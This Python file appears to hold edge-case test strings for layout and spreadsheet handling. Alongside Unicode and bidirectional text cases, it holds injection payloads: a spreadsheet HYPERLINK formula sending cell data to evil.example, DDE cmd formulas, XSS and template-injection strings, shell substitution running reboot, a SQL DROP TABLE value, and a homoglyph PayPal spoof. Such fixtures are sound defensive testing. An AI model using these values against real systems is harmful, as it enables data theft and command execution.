"""Edge-case texts without markup that have broken layouts and spreadsheets."""

# ruff: noqa: RUF001 (look-alike letters are intended)

from typing import Final

EDGE_CASE_TEXTS: Final[dict[str, str]] = {
    "a-formula": '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "a-formula-with-a-plus": "+1+cmd|' /C calc'!A0",
    "a-formula-with-an-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "an-address": "javascript:alert(document.domain)//https://example.org/?a=b&c=d#e",
    "an-address-in-base-64": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "a-jinja-template": "{{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}",
    "a-shell": "$(reboot) `reboot` ; reboot && reboot | reboot",
    "a-query": "Robert'); DROP TABLE polls;--",
    "a-format": "%s %n %d {0} {} %00 \\u003cscript\\u003e \\x3c",
    "an-escape-in-css": "</style>\\3c script\\3e } body { display: none",
    "quotes": "\"'`´‘’“”„‚«»‹›「」",
    "nothing-in-javascript": "undefined",
    "nothing-in-python": "None",
    "not-a-number": "NaN -0 1e309 0x10 ٣٤٥ 𝟛𝟜𝟝",
    "one-long-word": "Donaudampfschifffahrtselektrizitätenhauptbetriebswerkbauunterbeamtengesellschaft",
    "one-letter-many-times": "W" * 80,
    "no-spaces-in-chinese": "敏捷的棕色狐狸跳过懒狗" * 7,
    "no-spaces-in-thai": "สุนัขจิ้งจอกสีน้ำตาลกระโดดข้ามสุนัข" * 2,
    "a-long-path": "/very/long/path/without/any/space/" + "deeper/" * 6,
    "non-breaking-spaces": "no\u00a0break\u00a0here\u00a0" * 5,
    "zero-width-spaces": "zero\u200bwidth\u200b\u200b\u200bspace\ufeff",
    "joined-without-width": "a\u200db\u200cc\u2060d",
    "only-one-soft-hyphen": "soft\u00adhy\u00adphens\u00adin\u00adhere",
    "a-family": "👨‍👩‍👧‍👦👩🏽‍🚀🏳️‍🌈🏴‍☠️🇺🇳🤷🏿‍♀️" * 2,
    "flags-in-a-row": "🇩🇪🇫🇷🇮🇱🇪🇬" * 9,
    "letters-like-towers": "Z\u0351\u036b\u0343\u036a\u0302\u0334a\u0357\u0364l" * 4,
    "arabic": "هل نذهب إلى الجبال أم إلى البحر هذا الصيف؟",
    "hebrew-with-a-number": "נסע ב-15:30 או ב-16:45 (ABC)?",
    "both-directions": "abc مرحبا 123 def שלום 456!",
    "a-mark-of-direction": "right\u200fto\u200eleft\u061c!",
    "one-ligature-that-is-wide": "﷽" * 10,
    "letters-that-look-alike": "Раураl vs PayPal ⁄ ∕ ⧸ ／",
    "a-replacement-character": "\ufffd\ufffd not a text \ufffd",
    "only-a-dot": ".",
}
